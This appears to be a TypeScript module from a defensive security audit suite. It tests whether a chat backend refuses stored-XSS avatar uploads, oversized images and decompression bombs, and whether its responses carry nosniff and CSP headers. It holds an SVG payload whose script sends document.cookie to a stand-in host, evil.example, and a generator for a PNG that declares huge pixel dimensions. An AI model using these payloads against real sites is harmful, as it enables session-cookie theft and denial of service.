import { deflateSync } from 'node:zlib';
import { address, dataAt, header, multipartBody, send, withCodes, type Answer } from '../http.js';
import { AttackReport } from '../report.js';
import { createRoom, createUserWithToken, excerpt, virolaSession, type AuditContext } from '../world.js';

/*
 * 5. Stored XSS through avatars: an SVG with a script uploaded as a room avatar (as
 * itself, and disguised as a PNG), oversized images, then what the Virola avatar URL
 * serves, and whether ordinary answers carry nosniff and a Content-Security-Policy.
 */

const ATTACK = 5;
const ROOM = 'xss-room';
const UPDATE_ROOM = `mutation($i: UpdateRoomInput!) { updateRoom(input: $i) {
  __typename ... on Error { code message } } }`;

const SVG = new TextEncoder().encode(
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("https://evil.example/?c="+document.cookie)</script></svg>',
);

function crc32(bytes: Uint8Array): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

function chunk(type: string, data: Uint8Array): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0);
  return Buffer.concat([head, data, crc]);
}

/** A PNG of width x height declared in its header; its pixels are one opaque row of `width` (enough for a 1x1). */
function png(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 6; // RGBA
  const row = Buffer.alloc(1 + 4 * Math.min(width, 16), 0xff);
  row[0] = 0; // filter: none
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(row)),
    chunk('IEND', new Uint8Array()),
  ]);
}

async function upload(
  ctx: AuditContext,
  bearer: Record<string, string>,
  file: { bytes: Uint8Array; name: string; type: string },
): Promise<{ accepted: boolean; text: string }> {
  const { body, contentType } = await multipartBody(
    UPDATE_ROOM,
    { i: { roomId: ROOM, avatar: null } },
    'i.avatar',
    file,
  );
  const answer = withCodes(
    await send(ctx.url, '/graphql', {
      method: 'POST',
      headers: {
        ...bearer,
        'content-type': contentType,
        accept: 'application/graphql-response+json, application/json',
        // A custom header, as a real client sends, so yoga's CSRF prevention does not stand in for the upload check.
        'x-graphql-yoga-csrf': 'audit',
        'apollo-require-preflight': 'true',
      },
      body,
      from: address(ATTACK, 1),
    }),
  );
  const accepted = dataAt(answer, 'updateRoom.__typename') === 'UpdateRoomPayload';
  const why =
    answer.body.errors?.[0]?.message ?? (dataAt(answer, 'updateRoom.message') as string | undefined) ?? '';
  return {
    accepted,
    text: accepted
      ? `${answer.status} accepted`
      : `${answer.status} ${answer.codes.join(',')}: ${excerpt(why, 80)}`,
  };
}

const SECURITY_HEADERS = (a: Answer) =>
  `Content-Type: ${header(a, 'content-type') ?? '-'}, X-Content-Type-Options: ${header(a, 'x-content-type-options') ?? '-'}, CSP: ${excerpt(
    header(a, 'content-security-policy') ?? '-',
    60,
  )}`;

export async function uploads(ctx: AuditContext): Promise<AttackReport> {
  const report = new AttackReport(ATTACK, 'Stored XSS through room avatars');
  const owner = await createUserWithToken(ctx, ctx.a, 'xss-owner');
  const roomNumericId = await createRoom(ctx, ctx.a, ROOM, owner.userId);
  const avatarPath = `/api/v1/rooms/${roomNumericId}/avatar.jpg`;
  const fetchAvatar = () => send(ctx.url, avatarPath, { headers: owner.bearer, from: address(ATTACK, 2) });

  const svg = await upload(ctx, owner.bearer, { bytes: SVG, name: 'avatar.svg', type: 'image/svg+xml' });
  const served = await fetchAvatar();
  const scriptServed = served.text.includes('<script>');
  report.refused(
    'updateRoom(avatar:) with an SVG holding <script>, declared image/svg+xml',
    !svg.accepted,
    svg.text,
    'refused: only raster images recognised by their bytes',
  );
  report.refused(
    `GET ${avatarPath} after that upload`,
    !scriptServed ||
      (header(served, 'x-content-type-options') === 'nosniff' &&
        !/svg/i.test(header(served, 'content-type') ?? '')),
    `${served.status}, ${SECURITY_HEADERS(served)}; the script served: ${scriptServed ? 'yes' : 'no'}`,
    'never the SVG; nosniff and a restrictive CSP',
  );

  const disguised = await upload(ctx, owner.bearer, { bytes: SVG, name: 'avatar.png', type: 'image/png' });
  report.refused(
    'the same SVG declared image/png, named avatar.png',
    !disguised.accepted,
    disguised.text,
    'refused: the bytes are no PNG',
  );

  const huge = await upload(ctx, owner.bearer, {
    bytes: png(50_000, 50_000),
    name: 'huge.png',
    type: 'image/png',
  });
  report.refused(
    'a PNG declaring 50,000 x 50,000 pixels (a decompression bomb)',
    !huge.accepted,
    huge.text,
    'refused: a pixel-dimension cap',
  );

  const big = Buffer.concat([png(1, 1), Buffer.alloc(3 * 1024 * 1024)]);
  const large = await upload(ctx, owner.bearer, { bytes: big, name: 'big.png', type: 'image/png' });
  report.refused(
    'a 3 MiB PNG',
    !large.accepted,
    large.text,
    'refused: a size cap (AVATAR_MAX_BYTES, at most 3 MiB)',
  );

  const good = await upload(ctx, owner.bearer, { bytes: png(1, 1), name: 'dot.png', type: 'image/png' });
  const dot = await fetchAvatar();
  report.holds(
    'a 1 x 1 PNG, then its avatar URL',
    good.accepted && dot.status === 200 && header(dot, 'content-type') === 'image/png',
    `${good.text}; served ${dot.status}, ${SECURITY_HEADERS(dot)}`,
    'accepted and served as image/png',
  );

  // Ordinary answers: every one should carry nosniff and a CSP (GraphiQL aside).
  const cookie = await virolaSession(ctx, ctx.a, owner.userId, address(ATTACK, 3));
  const ordinary: [string, Answer][] = [
    ['avatar', dot],
    ['Virola GET /api/v1/rooms', await send(ctx.url, '/api/v1/rooms', { headers: { cookie } })],
    ['IMKit GET /rooms (401)', await send(ctx.url, '/rooms')],
    [
      'POST /graphql',
      await send(ctx.url, '/graphql', {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...owner.bearer },
        body: JSON.stringify({ query: '{ viewer { id } }' }),
      }),
    ],
    ['GET /healthz', await send(ctx.url, '/healthz')],
    ['GET /openapi.json', await send(ctx.url, '/openapi.json')],
    ['a 404', await send(ctx.url, '/no-such-path')],
  ];
  const missing = ordinary.filter(
    ([, a]) => header(a, 'x-content-type-options') !== 'nosniff' || !header(a, 'content-security-policy'),
  );
  report.refused(
    `nosniff and a CSP on ordinary answers (${ordinary.length} kinds)`,
    missing.length === 0,
    missing.length === 0
      ? `all carry both; CSP: ${excerpt(header(dot, 'content-security-policy') ?? '', 80)}`
      : `missing on ${missing.map(([name, a]) => `${name} (${header(a, 'x-content-type-options') ? '' : 'nosniff '}${header(a, 'content-security-policy') ? '' : 'CSP'})`.replace(' )', ')')).join(', ')}`,
    'X-Content-Type-Options: nosniff and a restrictive Content-Security-Policy on every one',
  );
  return report;
}
